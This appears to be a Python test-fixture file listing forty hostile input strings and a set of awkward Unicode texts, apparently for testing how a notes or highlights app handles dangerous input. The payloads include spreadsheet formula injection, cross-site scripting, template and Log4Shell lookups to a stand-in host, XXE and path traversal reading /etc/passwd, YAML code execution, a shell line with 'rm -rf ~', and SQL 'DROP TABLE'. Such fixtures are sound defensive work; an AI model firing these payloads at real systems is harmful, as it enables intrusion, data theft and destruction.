"""Forty texts that some program would run, open or misread, and letters that are hard to keep."""

PAYLOADS = (
    # spreadsheets
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1|2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1\uff0b1",
    "\t=1+1",
    "'=1+1",
    "_x0041_ _x000D_",
    '"a";"b",c',
    # pages
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</blockquote></td></tr></table><iframe src=//x.example>",
    "&lt;b&gt; &amp; &#0; &#x2028;",
    "<!-- --!> <![CDATA[ x ]]> -->",
    "javascript:alert(1)//http://x.example/",
    "data:text/html;base64,PHNjcmlwdD4=",
    "</style><style>@import url(//x.example)</style>",
    '<svg onload="fetch(1)"><use href="//x.example#a"/></svg>',
    # templates and typesetting
    "{{ 7 * 7 }} {{ report.__class__ }}",
    "{% for x in range(9) %}x{% endfor %} {# k #}",
    '#panic("x") #read("/etc/passwd") $x^2$ @a <b>',
    "\\input{/etc/passwd} \\write18{ls}",
    "${jndi:ldap://x.example/a}",
    # Markdown and notes
    "[a](javascript:alert(1)) ![b](http://x.example/p.png)",
    "![[Catatan#^k-001]] [[x|y]] ==a== %%b%% #tag ^k-001",
    "`= dv.pages()` $= 1 <% tp.file.title %> a:: b",
    "# J\n\n---\n- [ ] a\n> [!quote] K-999 b\n\n```js\nx",
    "| a | b |\n|---|---|\n| c \\| d |",
    "*a* _b_ ~~c~~ \\* __init__ 2*3*4 1. satu",
    # data
    '{"a": "b\\u0000"}, \\"]}',
    "--- !!python/object/apply:os.system [ls]\n...\nkey: [a, &b *b",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "{\\rtf1\\field{\\*\\fldinst INCLUDETEXT x}}",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
    # shell, paths, headers, databases
    "$(touch x); `id` && rm -rf ~ | tee",
    "../../../../etc/passwd",
    "C:\\con\\nul..:stream?*.txt",
    "a\r\nSet-Cookie: b=c\r\n\r\n<b>",
    "'); DROP TABLE highlights;-- %s %n {0} \x1b]0;a\x07",
)

LETTERS = (
    "👮🏽 👩\u200d👩\u200d👧 🇮🇩",
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643\u0645",
    "\u202eterbalik\u202c \u2067x\u2069 a\u200fb",
    "a\x01b\x07c\x0bd\x0ce\x1bf\x1fg\x7fh\x85i\x9fj",
    "e\u0301 \xe9 \ufb01 \u0130 \u1e9e",
    "\u200bnol\u200d\ufeff\xad \u2060",
    "我们承诺建成台水泵",
    "\u0e01\u0e33\u0e25\u0e31\u0e07 \u0939\u093f\u0928\u094d\u0926\u0940",
    "\xa0 \u202f \u3000",
    "\ufffc\ufffd\uffff \U0010ffff \ue000",
    "“kutip” ‘dalam’ «sini» [sic] … — –",
    "\n\nalinea baru\n  menjorok  \n",
)
